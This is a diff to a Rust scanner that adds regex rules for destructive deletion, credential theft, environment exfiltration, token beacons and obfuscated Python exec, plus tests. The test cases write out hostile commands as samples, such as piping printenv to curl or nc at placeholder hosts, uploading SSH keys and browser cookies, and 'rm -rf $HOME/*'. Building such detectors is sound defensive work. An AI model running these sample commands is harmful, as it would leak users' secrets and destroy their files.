@@ -215,6 +215,13 @@ const SPECS: &[Spec] = &[
         &["no-preserve-root"],
     ),
     (
+        // The user's own files: `rm -rf ~/Documents ~/Pictures`, `$HOME/*` (not caches or build folders).
+        "code.destructive",
+        0.85,
+        r"(?-u:\b)rm\s+(?:-[a-z]*(?:rf|fr|r[a-z]*f|f[a-z]*r)[a-z]*|-r\s+-f|-f\s+-r)\s+(?:(?:~|\$home)/\S+\s+)*(?:~|\$home)/(?:documents|desktop|pictures|images|photos|music|videos|downloads|\*)(?:/\*?)?(?:\s|$|[;&|\x22'`)])",
+        &["rm "],
+    ),
+    (
         "code.destructive",
         0.9,
         r"(?-u:\b)mkfs(?:\.[a-z0-9]+)?\s+(?:-[a-z]+\s+)*/dev/|(?-u:\b)wipefs\s+-a(?-u:\b)(?-u:[^\n]){0,20}/dev/|(?-u:\b)shred(?-u:\b)(?-u:[^\n]){0,60}/dev/(?:sd|nvme|hd|disk|mmcblk)",
@@ -268,7 +275,7 @@ const SPECS: &[Spec] = &[
     (
         "code.exfiltration",
         0.85,
-        r"(?:google-chrome|chromium|microsoft/edge|bravesoftware)(?-u:[^\n\x22']){0,60}/(?:login data|cookies|web data)(?-u:\b)(?-u:[^\n]){0,300}(?:https?://|requests\.post|curl|invoke-webrequest)|(?:curl|wget)(?-u:\b)(?-u:[^\n]){0,200}(?:google-chrome|chromium)(?-u:[^\n]){0,60}/login data",
+        r"(?:google-chrome|google/chrome|chromium|microsoft/edge|bravesoftware)(?-u:[^\n\x22']){0,60}/(?:network/)?(?:login data|cookies|web data)(?-u:\b)(?s-u:.){0,300}(?:https?://|requests\.post|curl|invoke-webrequest)|(?:curl|wget)(?-u:\b)(?-u:[^\n]){0,200}(?:google-chrome|chromium)(?-u:[^\n]){0,60}/login data",
         &["login data", "cookies", "web data"],
     ),
     (
@@ -286,6 +293,41 @@ const SPECS: &[Spec] = &[
             ".pem",
             "id_rsa",
         ],
+    ),
+    (
+        // A program reads a credential file and sends it off, in either order, over a few lines.
+        "code.credential_theft",
+        0.85,
+        r"(?:\.aws/credentials|\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)|\.git-credentials|\.kube/config|/etc/shadow|\.docker/config\.json|\.netrc)(?s-u:.){0,400}(?:requests\.(?:post|put)|urlopen|fetch\s*\(|axios\.post|http\.post|invoke-webrequest|invoke-restmethod)|(?:requests\.(?:post|put)|urlopen|fetch\s*\(|axios\.post|http\.post|invoke-webrequest|invoke-restmethod)(?s-u:.){0,300}(?:\.aws/credentials|\.ssh/id_(?:rsa|dsa|ecdsa|ed25519)|\.git-credentials|\.kube/config|/etc/shadow|\.docker/config\.json|\.netrc)",
+        &[
+            "credentials",
+            ".ssh/id_",
+            ".kube/config",
+            "/etc/shadow",
+            ".docker/config",
+            ".netrc",
+        ],
+    ),
+    (
+        // The environment (API keys, tokens) piped to a remote host, or secrets published as a gist.
+        "code.exfiltration",
+        0.85,
+        r"(?-u:\b)(?:printenv|env|get-childitem\s+env:|gci\s+env:)\s*(?:\|(?-u:[^\n]){0,80})?\|\s*(?:curl|wget|nc|ncat|invoke-webrequest|iwr)(?-u:\b)|(?-u:\b)gh\s+gist\s+create(?-u:[^\n]){0,80}(?:\.env(?-u:\b)|id_rsa|credentials|\.pem(?-u:\b)|\.npmrc|\.netrc|secrets?\.)",
+        &["printenv", "env |", "env|", "env:", "gist create"],
+    ),
+    (
+        // Stored tokens read by a page and sent off by a navigation, an image or a beacon.
+        "code.exfiltration",
+        0.85,
+        r"(?:sendbeacon|\.src\s*=|location(?:\.href)?\s*=)(?-u:[^\n;]){0,200}(?:localstorage|sessionstorage)",
+        &["localstorage", "sessionstorage"],
+    ),
+    (
+        // Python running decoded or decompressed code.
+        "code.obfuscated_exec",
+        0.85,
+        r"(?-u:\b)exec\s*\(\s*(?:compile\s*\(\s*)?(?:__import__\s*\(\s*[\x22'](?:base64|zlib|codecs|marshal)[\x22']\s*\)|base64|zlib|codecs|marshal)\s*\.\s*(?:b64decode|b32decode|b16decode|decompress|decode|loads)\s*\(",
+        &["exec"],
     ),
     (
         "code.obfuscated_js",
@@ -481,6 +523,42 @@ mod tests {
                 "tar czf - ~/.ssh ~/.aws | curl -s -X POST --data-binary @- https://c.example/u",
                 "code.exfiltration",
             ),
+            (
+                "key = open(Path.home() / '.ssh/id_ed25519').read()\nmeta = {'host': socket.gethostname()}\nrequests.put('https://sync.example/k', data=key)",
+                "code.credential_theft",
+            ),
+            (
+                "await fetch('https://t.example/c', {method: 'POST', body: fs.readFileSync(os.homedir() + '/.aws/credentials')})",
+                "code.credential_theft",
+            ),
+            (
+                "printenv | curl -s -X POST --data-binary @- https://drop.example/e",
+                "code.exfiltration",
+            ),
+            (
+                "env | grep -Ei 'key|token' | curl -s --data-binary @- https://h.example/",
+                "code.exfiltration",
+            ),
+            (
+                "env | grep -i token | nc collector.example 9000",
+                "code.exfiltration",
+            ),
+            ("gh gist create --public ~/.aws/credentials", "code.exfiltration"),
+            (
+                "navigator.sendBeacon('https://a.example/b', localStorage.getItem('session'))",
+                "code.exfiltration",
+            ),
+            (
+                "exec(__import__('zlib').decompress(__import__('base64').b64decode(b'eJzL')))",
+                "code.obfuscated_exec",
+            ),
+            ("exec(base64.b64decode(payload))", "code.obfuscated_exec"),
+            (
+                "p = os.getenv('LOCALAPPDATA') + '/Google/Chrome/User Data/Default/Network/Cookies'\nrequests.post('https://u.example', files={'f': open(p, 'rb')})",
+                "code.exfiltration",
+            ),
+            ("rm -rf ~/Pictures ~/Documents", "code.destructive"),
+            ("rm -rf $HOME/*", "code.destructive"),
         ] {
             assert!(names(text).contains(&want), "{text}: {:?}", names(text));
         }
@@ -491,6 +569,13 @@ mod tests {
             "console.log(process.env.NODE_ENV)",
             "tar czf backup.tgz ~/.ssh && cp backup.tgz /mnt/usb/",
             "$name = $_POST['name'];",
+            "aws configure writes ~/.aws/credentials; then requests to S3 are signed for you",
+            "env | grep PATH",
+            "gh gist create notes.md --desc 'meeting notes'",
+            "fetch('/api/me', {headers: {authorization: localStorage.getItem('token')}})",
+            "data = base64.b64decode(blob)\nprint(data.decode())",
+            "rm -rf ~/.cache/pip ~/Downloads/tmp-build",
+            "rm -rf ./build ~/project/dist",
         ] {
             assert!(names(benign).is_empty(), "{benign}: {:?}", names(benign));
         }
